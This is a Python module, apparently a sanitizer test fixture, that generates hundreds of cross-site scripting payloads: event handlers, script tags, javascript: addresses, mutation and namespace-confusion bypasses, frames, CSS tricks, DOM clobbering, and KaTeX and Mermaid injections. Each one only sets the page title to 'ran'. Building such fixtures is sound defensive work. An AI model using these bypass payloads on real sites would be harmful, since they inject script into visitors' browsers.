"""Pieces of HTML, text and front matter that try to run a script, made by rules.

Each sets the page's title to ``ran``. A family is a way in; its members are all that the rule says.
"""

import json
from collections.abc import Iterator
from dataclasses import dataclass
from html import escape
from urllib.parse import quote

RUN = "document.title='ran'"
MARK = "ran"


@dataclass(frozen=True, slots=True)
class Payload:
    """A hostile piece: the family that it belongs to, and its HTML."""

    family: str
    html: str


def all_payloads() -> tuple[Payload, ...]:
    """Return every payload, the same ones in the same order each time."""
    made = [Payload(family.__name__.strip("_"), html) for family in _FAMILIES for html in family()]
    return tuple(dict.fromkeys(made))


def some_payloads(each: int) -> tuple[Payload, ...]:
    """Return ``each`` payloads of every family, spread over it."""
    chosen: list[Payload] = []
    families: dict[str, list[Payload]] = {}
    for payload in all_payloads():
        families.setdefault(payload.family, []).append(payload)
    for members in families.values():
        step = max(1, len(members) // each)
        chosen += members[::step][:each]
    return tuple(chosen)


_BROKEN = 'src="galleyproof://site/none"'
_EVENTS = (
    ("img", _BROKEN, "onerror"),
    ("img", "src=data:image/gif;base64,R0lGODlhAQABAAAAACw=", "onload"),
    ("svg", "", "onload"),
    ("body", "", "onload"),
    ("body", "", "onpageshow"),
    ("style", "", "onload"),
    ("input", "autofocus", "onfocus"),
    ("select", "autofocus", "onfocus"),
    ("textarea", "autofocus", "onfocus"),
    ("button", "autofocus", "onfocus"),
    ("video", _BROKEN, "onerror"),
    ("audio", _BROKEN, "onerror"),
    ("details", "open", "ontoggle"),
    ("iframe", "srcdoc=x", "onload"),
    ("object", 'data="galleyproof://site/none"', "onerror"),
    ("embed", 'src="galleyproof://site/none"', "onload"),
    ("link", 'rel=stylesheet href="galleyproof://site/none.css"', "onerror"),
    ("marquee", "loop=1 width=1", "onstart"),
    ("a", "href=# tabindex=0 autofocus", "onfocus"),
    ("p", "tabindex=0 autofocus", "onfocus"),
    ("p", "style='animation:x 1ms'", "onanimationend"),
    ("xss", "style='animation:x 1ms'", "onanimationstart"),
    ("a", "id=click href=#", "onclick"),
    ("script", "", "onload"),
    ("source", "", "onerror"),
    ("track", "default", "onerror"),
    ("image", _BROKEN, "onerror"),
    ("input", f"type=image {_BROKEN}", "onerror"),
)


def _event_handlers() -> Iterator[str]:
    """Every handler, written in all the ways that a parser takes for the same."""
    shapes = (
        '<{tag} {given} {event}="{run}">',
        "<{tag} {given} {upper}={bare}>",
        "<{tag}/{given}/{event}={bare}//",
        '<{tag}\n{given}\n{event}\n=\n"{run}">',
        '<{tag}\x0c{given}\x0c{event}="{coded}">',
        "<{tag} {given} title=\"&quot;>\" {event}='{double}'>",
        '<{tag} {given} x=`y {event}="{run}">',
        '<{tag} {event}="{run}" {given}',
    )
    for tag, given, event in _EVENTS:
        for shape in shapes:
            before = "<style>@keyframes x{}</style>" if "animation" in given else ""
            if tag in ("source", "track"):
                before = "<video>"
            yield before + shape.format(
                tag=tag,
                given=given,
                event=event,
                upper=event.upper(),
                run=RUN,
                bare="document.title=`ran`",
                double='document.title="ran"',
                coded="".join(f"&#{ord(letter)};" for letter in RUN),
            )


def _scripts() -> Iterator[str]:
    """A script itself, whole, torn, nested and in other namespaces."""
    shapes = (
        "<script>{run}</script>",
        "<SCRIPT>{run}</SCRIPT>",
        "<script type=module>{run}</script>",
        "<script\x0c>{run}</script\n>",
        "<script/x>{run}</script >",
        "<scr<script>ipt>{run}</script>",
        "<<script>{run}//<</script>",
        "<script><!--\n{run}\n--></script>",
        '<script src="data:text/javascript,{quoted}"></script>',
        "<svg><script>{run}</script></svg>",
        '<svg><script href="data:text/javascript,{quoted}"/></svg>',
        "<svg><script>&#100;{rest}</script></svg>",
        "<math><script>{run}</script></math>",
        "<math><mtext><script>{run}</script></mtext></math>",
        "<svg><foreignObject><script>{run}</script></foreignObject></svg>",
        "<template><script>{run}</script></template>",
        "<template shadowrootmode=open><script>{run}</script></template>",
        "<noscript><script>{run}</script></noscript>",
        "<title></title><script>{run}</script>",
        "<textarea></textarea><script>{run}</script>",
        "<select><option><script>{run}</script></select>",
        "<table><script>{run}</script></table>",
        "<frameset><script>{run}</script></frameset>",
        "<plaintext></plaintext><script>{run}</script>",
    )
    for shape in shapes:
        yield shape.format(run=RUN, rest=RUN[1:], quoted=quote(RUN))


_SCHEMES = (
    "javascript:{run}",
    "JaVaScRiPt:{run}",
    " javascript:{run}",
    "\x01javascript:{run}",
    "java\tscript:{run}",
    "java\nscript:{run}",
    "javascript\r\n:{run}",
    "&#106;avascript:{run}",
    "&#x6A;avascript&colon;{run}",
    "javascript&#0000058{run}",
    "javascript://x/%0a{run}",
    "javascript:/*--></title></style>*/{run}",
    "vbscript:{run}",
    "data:text/html,<script>parent.{run}</script>",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQuZG9jdW1lbnQudGl0bGU9J3Jhbic8L3NjcmlwdD4=",
)
_ADDRESSED = (
    '<a id=click href="{url}">x</a>',
    '<area id=click href="{url}">',
    '<iframe src="{url}"></iframe>',
    '<frame src="{url}">',
    '<embed src="{url}">',
    '<object data="{url}"></object>',
    '<form action="{url}"><button id=click>x</button></form>',
    '<form><button id=click formaction="{url}">x</button></form>',
    '<form><input type=submit id=click formaction="{url}"></form>',
    '<svg><a xlink:href="{url}"><text id=click>x</text></a></svg>',
    '<svg><a href="{url}"><text id=click>x</text></a></svg>',
    '<math><mtext href="{url}" id=click>x</mtext></math>',
    '<base href="{url}"><a id=click href="">x</a>',
    '<meta http-equiv=refresh content="0;url={url}">',
    '<img src="{url}">',
    '<link rel=stylesheet href="{url}">',
    '<table background="{url}">',
    '<body background="{url}">',
    '<video poster="{url}"></video>',
    '<svg><use href="{url}"/></svg>',
    '<svg><animate xlink:href=#click attributeName=href values="{url}"/><a id=click><text>x</text>',
    '<svg><set href=#click attributeName=href to="{url}"/><a id=click href=#><text>x</text></a>',
    '<portal src="{url}"></portal>',
    '<a id=click target=_blank href="{url}">x</a>',
)


def _addresses() -> Iterator[str]:
    """Addresses that run a script, in everything that takes an address."""
    for shape in _ADDRESSED:
        for scheme in _SCHEMES:
            yield shape.format(url=scheme.format(run=RUN))


_FIRE = f'<img {_BROKEN} onerror="{RUN}">'
_FIRE_BARE = f"<img {_BROKEN} onerror=document.title=`ran`>"


def _mutations() -> Iterator[str]:
    """What is harmless when it is cleaned and something else when it is read again."""
    raw = ("style", "title", "textarea", "noscript", "xmp", "noembed", "noframes", "iframe")
    for element in raw:
        yield f'<{element}><p title="</{element}>{escape(_FIRE_BARE)}">'
        yield f'<{element}><a id="</{element}>{_FIRE_BARE}">'
        yield f'<svg></p><{element}><a id="</{element}>{_FIRE_BARE}">'
        yield f"<svg><{element}>{_FIRE}</{element}></svg>"
        yield f"<math><{element}>{_FIRE}</{element}></math>"
        yield f"<math><mtext><table><mglyph><{element}><!--</{element}>{_FIRE}-->"
        yield f"<form><math><mtext></form><form><mglyph><{element}></math>{_FIRE}"
        yield f"<svg><desc><{element}>{_FIRE}</{element}></desc></svg>"
        yield f"<svg><foreignObject><{element}>{_FIRE}</{element}></foreignObject></svg>"
        yield f"<math><annotation-xml encoding='text/html'><{element}>{_FIRE}</{element}>"
        yield f"<math><annotation-xml><{element}></annotation-xml>{_FIRE}"
        yield f"<select><{element}>{_FIRE}</{element}></select>"
        yield f"<template><{element}>{_FIRE}</{element}></template>{_FIRE_BARE}"
    yield f"<!--><script>{RUN}</script>-->"
    yield f"<!--!>{_FIRE}-->"
    yield f"<!-- --!>{_FIRE}-->"
    yield f"<![CDATA[><script>{RUN}</script>]]>"
    yield f"<svg><![CDATA[<p title=']]>{_FIRE_BARE}'>]]></svg>"
    yield f"<?xml >{_FIRE}?>"
    yield f"</p/{_FIRE}>"
    yield f'<p title="`{_FIRE_BARE}">'
    yield "<div>" * 600 + f"<table><svg><style>{_FIRE}"
    yield f"<table><td background='javascript:{RUN}'>{_FIRE_BARE}"


def _frames() -> Iterator[str]:
    """Pages in the page."""
    for run in (f"parent.{RUN}", f"top.{RUN}", f"parent.frames.parent.{RUN}"):
        for inside in (f"<script>{run}</script>", f'<svg onload="{run}">'):
            yield f'<iframe srcdoc="{escape(inside)}"></iframe>'
            yield f'<iframe sandbox="allow-scripts allow-same-origin" srcdoc="{escape(inside)}">'
            yield f'<iframe src="data:text/html,{quote(inside)}"></iframe>'
            yield f'<object type="text/html" data="data:text/html,{quote(inside)}"></object>'
            svg = f'<svg xmlns="http://www.w3.org/2000/svg">{inside}</svg>'
            yield f'<embed type="image/svg+xml" src="data:image/svg+xml,{quote(svg)}">'
            yield f'<img src="data:image/svg+xml,{quote(svg)}">'
            yield f'<svg><use href="data:image/svg+xml,{quote(svg)}#x"/></svg>'


def _styles() -> Iterator[str]:
    """Style sheets of old and new browsers that would run something."""
    for address in (f"javascript:{RUN}", f"data:text/html,<script>{RUN}</script>"):
        for rule in (
            "background:url({})", "list-style-image:url({})", "content:url({})", "behavior:url({})",
            "-moz-binding:url({})", "width:expression({})", "cursor:url({}),auto", "mask:url({})",
        ):  # fmt: skip
            told = rule.format(f"'{address}'")
            yield f'<p style="{escape(told)}">x</p>'
            yield f"<style>p{{{told}}}</style><p>x</p>"
    yield f"<style>@import 'javascript:{RUN}';</style>"
    yield f"<style>p{{color:red}}</style{_FIRE}<p>x"
    yield f"<style></style{_FIRE}></style>"
    yield f"<style><!--</style>{_FIRE}-->"


def _clobbering() -> Iterator[str]:
    """Names that a script beside the page might read in place of its own."""
    for name in ("galleyproof", "katex", "mermaid", "gpTimers", "slot", "exports", "setTimeout"):
        yield f'<a id={name} href="javascript:{RUN}">x</a><a id={name} name=patch>y</a>{_FIRE}'
        yield f"<form id={name}><input name=parse><input name=setFrame></form>{_FIRE}"
        yield f'<iframe name={name} srcdoc="<script>parent.{RUN}</script>"></iframe>'
    for name in ("attributes", "childNodes", "innerHTML", "remove", "nodeType", "parentNode"):
        yield f"<form><input name={name}></form>{_FIRE}"
        yield f"<form><img id={name} {_BROKEN} onerror={RUN}></form>"


_FAMILIES = (
    _event_handlers,
    _scripts,
    _addresses,
    _mutations,
    _frames,
    _styles,
    _clobbering,
)


def formulas() -> tuple[str, ...]:
    """Formulas that ask KaTeX for more than a formula."""
    url = f"javascript:{RUN}"
    asks = (
        f"\\href{{{url}}}{{x}}",
        f"\\url{{{url}}}",
        f"\\includegraphics{{{url}}}",
        f"\\htmlData{{x=1, onclick={RUN}}}{{x}}",
        f"\\htmlStyle{{background:url({url})}}{{x}}",
        f'\\htmlId{{galleyproof}}{{x}}\\htmlClass{{x" onload="{RUN}}}{{x}}',
        f'\\text{{<img src=x onerror="{RUN}">}}',
        f"\\unicode{{<img src=x onerror={RUN}>}}",
        f"<script>{RUN}</script>",
        f"\\def\\x{{\\href{{{url}}}{{y}}}}\\x",
        f"\\undefined<img src=x onerror={RUN}>",
        f'\\color{{"><img src=x onerror={RUN}>}}x',
        f"\\begin{{array}}{{c}}\\href{{{url}}}{{x}}\\end{{array}}",
        f'\\style{{x:expression({RUN})}}{{x}}\\cssId{{x" onload="{RUN}}}{{x}}\\class{{y}}{{x}}',
    )
    return tuple(f"$${ask}$$" for ask in asks)


def diagrams() -> tuple[str, ...]:
    """Diagrams that ask Mermaid for more than a diagram."""
    image = f"<img src=x onerror={RUN}>"
    loose = json.dumps({"securityLevel": "loose", "htmlLabels": True})
    css = json.dumps({"themeCSS": f"}}</style>{image}<style>*{{background:url(javascript:{RUN})}}"})
    font = json.dumps({"fontFamily": f"x}}</style>{image}"})
    return (
        f'graph TD\nA["{image}"]-->B["<script>{RUN}</script>"]',
        f'graph TD\nA["`{image}`"]-->B',
        f'graph TD\nA-->B\nclick A "javascript:{RUN}" "tip"',
        f"graph TD\nA-->B\nclick A call alert({RUN})",
        f'graph TD\nA-->B\nclick A href "javascript:{RUN}" _self',
        f'graph TD\nA-->B\nclick A href "data:text/html,<script>{RUN}</script>" _blank',
        f'%%{{init: {loose}}}%%\ngraph TD\nA["{image}"]-->B\nclick A href "javascript:{RUN}"',
        f"%%{{init: {css}}}%%\ngraph TD\nA-->B",
        f"%%{{init: {font}}}%%\ngraph TD\nA-->B",
        f"---\nconfig:\n  securityLevel: loose\n  htmlLabels: true\n---\ngraph TD\nA[{image}]-->B",
        f'sequenceDiagram\nA->>B: {image}\nlinks A: {{"x": "javascript:{RUN}"}}',
        f"sequenceDiagram\nparticipant A as {image}\nA->>B: {image}",
        f'classDiagram\nclass A {{\n+{image}()\n}}\nclick A href "javascript:{RUN}"',
        f'pie title {image}\n"{image}" : 10',
        f'gantt\nsection {image}\nx :a1, 2024-01-01, 3d\nclick a1 href "javascript:{RUN}"',
        f"stateDiagram-v2\n[*] --> s\ns: {image}\nnote right of s\n{image}\nend note",
        f'erDiagram\nA ||--o{{ B : "{image}"',
        f"journey\ntitle {image}\nsection {image}\n{image}: 5: Me",
        f"graph TD\nA-->B\nstyle A fill:url(javascript:{RUN})",
        f"graph TD\nA:::x-->B\nclassDef x fill:url(javascript:{RUN})",
        f'graph TD\nA@{{ img: "javascript:{RUN}", label: "{image}" }}',
        f"mindmap\n  root(({image}))\n    {image}",
        'graph TD\nA["' + image.replace("<", "#lt;").replace(">", "#gt;") + '"]',
    )
